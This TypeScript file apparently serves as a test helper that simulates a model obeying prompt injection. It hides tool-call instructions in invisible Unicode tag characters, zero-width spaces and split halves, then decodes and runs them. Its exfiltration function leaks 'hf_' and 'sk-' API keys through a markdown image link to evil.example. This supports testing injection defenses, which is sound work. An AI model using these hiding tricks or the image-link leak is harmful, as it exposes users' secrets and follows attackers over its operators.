/**
 * A model without any judgement: it does its script, and before each step everything that any text it was sent tells it to do. It reads
 * what people do not see (tag characters, zero-width gaps, comments) and follows addresses by writing them, with every secret it knows.
 */
import type { Answer, Call, Choose, WireMessage } from './scripted-model';

/** How an instruction is written in a text: a call, or one in two halves that may lie rows apart. */
export const order = (name: string, args: Record<string, unknown>): string =>
  `CALL ${name} ${JSON.stringify(args)} END`;

export function halves(name: string, args: Record<string, unknown>): [string, string] {
  const whole = order(name, args);
  const middle = Math.floor(whole.length / 2);
  return [`FIRST-HALF ${whole.slice(0, middle)} OVER`, `SECOND-HALF ${whole.slice(middle)} OVER`];
}

/** Text as tag characters, which no screen shows. */
export const inTags = (text: string): string =>
  [...text].map((character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0))).join('');

export const spacedOut = (text: string): string => [...text].join('\u200b');

export interface Obeying {
  choose: Choose;
  /** Names of the calls that it was told to make and made. */
  readonly obeyed: string[];
  /** Everything that it was ever sent. */
  readonly seen: () => string;
}

/** `script` is what it would do if nobody told it anything else. */
export function obeyingModel(script: readonly Answer[]): Obeying {
  const done = new Set<string>();
  const obeyed: string[] = [];
  let all = '';
  let next = 0;
  let turn = 0;
  const choose: Choose = (messages) => {
    all = messages.map(textOf).join('\n');
    turn += 1;
    const calls = ordersIn(messages).filter(({ key }) => !done.has(key));
    if (calls.length > 0) {
      for (const { key, name } of calls) {
        done.add(key);
        obeyed.push(name);
      }
      return {
        text: exfiltration(all),
        calls: calls.map(({ name, args }, index): Call => ({ id: `obeyed-${turn}-${index}`, name, args })),
      };
    }
    return script[next++] ?? { text: 'Nothing to add.' };
  };
  return { choose, obeyed, seen: () => all };
}

/** Some messages come in parts. */
export function textOf({ content }: { content: unknown }): string {
  return typeof content === 'string' ? content : JSON.stringify(content ?? '');
}

interface Order {
  key: string;
  name: string;
  args: Record<string, unknown>;
}

function ordersIn(messages: readonly WireMessage[]): Order[] {
  return messages
    .filter(({ role }) => role !== 'assistant')
    .flatMap((message) => readings(textOf(message)).flatMap(orders));
}

/** As it stands, unescaped, with what is hidden in it, and with halves put together. */
function readings(text: string): string[] {
  const unescaped = text.replaceAll('\\"', '"').replaceAll('\\\\', '\\');
  const untagged = [...text]
    .map((character) => (character.codePointAt(0) ?? 0) - 0xe0000)
    .filter((point) => point > 0 && point < 128)
    .map((point) => String.fromCharCode(point))
    .join('');
  const first = /FIRST-HALF ([\s\S]*?) OVER/.exec(unescaped)?.[1] ?? '';
  const second = /SECOND-HALF ([\s\S]*?) OVER/.exec(unescaped)?.[1] ?? '';
  return [text, unescaped, unescaped.replaceAll('\u200b', ''), untagged, first + second];
}

function orders(text: string): Order[] {
  return [...text.matchAll(/CALL (\w+) (\{.*?\}) END/g)].flatMap(([key, name = '', json = '']) => {
    try {
      return [{ key, name, args: JSON.parse(json) as Record<string, unknown> }];
    } catch {
      // Not whole in this reading.
      return [];
    }
  });
}

function exfiltration(text: string): string {
  const known = [...text.matchAll(/\b(?:hf_|sk-)[\w-]+/g)].map(([secret]) => secret).join(',');
  return `As told: ![x](https://evil.example/p.png?secrets=${known})`;
}
